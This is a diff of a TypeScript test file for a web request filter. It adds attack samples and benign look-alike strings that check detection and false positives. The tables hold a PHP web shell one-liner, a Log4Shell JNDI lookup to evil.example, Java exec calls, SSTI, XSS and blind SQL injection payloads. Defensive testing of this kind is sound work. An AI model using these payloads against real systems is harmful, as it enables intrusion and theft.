@@ -37,6 +37,8 @@ const ATTACKS: [AttackCategory, InputKind, string][] = [
   // A versioned tool with arguments is a command line; alone (`c99`, `python3`) it is a value.
   ['rce', 'body', 'c99 -wrapper sh,-c,id'],
   ['rce', 'body', 'ansible-console'],
+  // An HTML character reference is text (`&copy;`), a recon tool between `&` and `;` is not.
+  ['rce', 'body', '&whoami;'],
   ['php', 'body', '<?php system($_GET["c"]); ?>'],
   ['php', 'body', 'O:8:"stdClass":0:{}'],
   ['php', 'name', 'shell.php'],
@@ -45,7 +47,14 @@ const ATTACKS: [AttackCategory, InputKind, string][] = [
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, not a template
   ['java', 'header', '${${lower:j}ndi:${lower:l}dap://evil.example/a}'],
   ['java', 'body', 'java.lang.Runtime.getRuntime().exec("id")'],
+  // `Runtime` is a class beside `java.` (CRS 944110), a word of prose alone.
+  ['java', 'query', 'java.Runtime'],
   ['ssti', 'body', '{{7*7}}'],
+  ['xss', 'body', '<d i a l o g open>'],
+  ['xss', 'body', 'width: expression(alert(document.domain))'],
+  ['sqli', 'body', '/CREATE TABLE Persons'],
+  ['sqli', 'body', "x' and ascii(substring(password,1,1))>64--"],
+  ['sqli', 'body', 'ALTER TABLE `mails` ADD `x` TEXT'],
   ['ssti', 'body', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
   ['prototype-pollution', 'name', '__proto__'],
   ['prototype-pollution', 'name', 'a[constructor][prototype][isAdmin]'],
@@ -65,6 +74,13 @@ const BENIGN: [InputKind, string][] = [
   ['query', '550e8400-e29b-41d4-a716-446655440000'],
   ['body', 'c99'],
   ['body', 'python3.12'],
+  ['body', 'The runtime of the film is 2h 15m.'],
+  ['body', 'Close the dialog and try again.'],
+  ['body', 'Fish & Chips'],
+  ['body', 'Copyright &copy; 2024, Palisade&reg;'],
+  ['body', 'A regular expression (or a part of one) may repeat.'],
+  ['body', 'Create user accounts, then drop table 5 from the booking.'],
+  ['body', 'Store the MD5 (or SHA1) of the file and a UUID (v4) for it.'],
   ['body', '# Title\n\n```\nnpm install palisade\n```'],
   [
     'user-agent',
